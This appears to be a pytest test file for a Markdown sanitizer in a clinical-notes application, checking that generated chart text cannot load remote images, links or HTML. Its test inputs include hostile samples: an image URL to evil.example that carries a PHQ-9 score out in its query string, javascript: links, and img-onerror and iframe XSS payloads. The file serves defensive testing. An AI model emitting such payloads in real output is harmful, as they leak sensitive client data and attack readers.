"""Rendering safety: engine output cannot load or link remote content, and clinical Markdown survives."""

import pytest

from core import charts, sources
from core.engines.offline import OfflineEngine
from core.safety import neutralize_markdown


@pytest.mark.parametrize(
    "text,expected",
    [
        ("Mood ![chart](https://evil.example/x.png?d=PHQ-9%2014) improved.", "Mood chart improved."),
        ("See ![](http://evil.example/t.gif) it.", "See  it."),
        ("![alt][img]\n\n[img]: https://evil.example/i.png", "alt\n\n"),
        ("[weekly sessions](https://evil.example/login) held", "weekly sessions held"),
        ("[the [plan] review](javascript:alert(1)) done", "the [plan] review done"),
        ("[![badge](http://e.example/b.svg)](http://e.example)", "badge"),
        ("Visit <https://evil.example/a?b=c> or <someone@evil.example>.", "Visit  or ."),
        ("<img src=x onerror=alert(1)>Stable<br/> mood <b>today</b>", "Stable mood today"),
        ('<a href="https://evil.example">plan</a> <!-- hidden -->', "plan "),
        ("<iframe\nsrc='https://evil.example'></iframe>text", "text"),
    ],
)
def test_images_links_and_html_are_neutralized(text, expected):
    assert neutralize_markdown(text) == expected


def test_clinical_markdown_is_left_alone():
    text = (
        "## Measurement-based outcomes\n\n| Measure | First | Latest |\n|---|---|---|\n| PHQ-9 | 14 | 6 |\n\n"
        "- PHQ-9 < 10 at discharge; GAD-7 3<5\n1. Goal [N00123] met\n\n*Reliable improvement* and `code`.\n"
    )
    assert neutralize_markdown(text) == text


def test_no_pattern_crosses_a_blank_line():
    text = "[first part\n\nsecond](http://e.example) and <div\n\nclass=x>"
    per_paragraph = "\n\n".join(neutralize_markdown(p) for p in text.split("\n\n"))
    assert neutralize_markdown(text) == per_paragraph
    assert "<div" not in neutralize_markdown(text)


def test_the_offline_engine_neutralizes_its_output_too(practice):
    client_id = next(r.id for r in practice.store.client_rows() if r.full_name == "Zoë Ñúñez")
    first, last = practice.store.chart_span(client_id)
    sel = sources.require_sufficient(charts.selection(practice, client_id, first, last))
    edited = "## Identifying context\n\nSee ![x](https://evil.example/p.png) and [notes](https://evil.example).\n"
    assert OfflineEngine().refine(sel, edited, "paragraphs").text == "## Identifying context\n\nSee x and notes.\n"
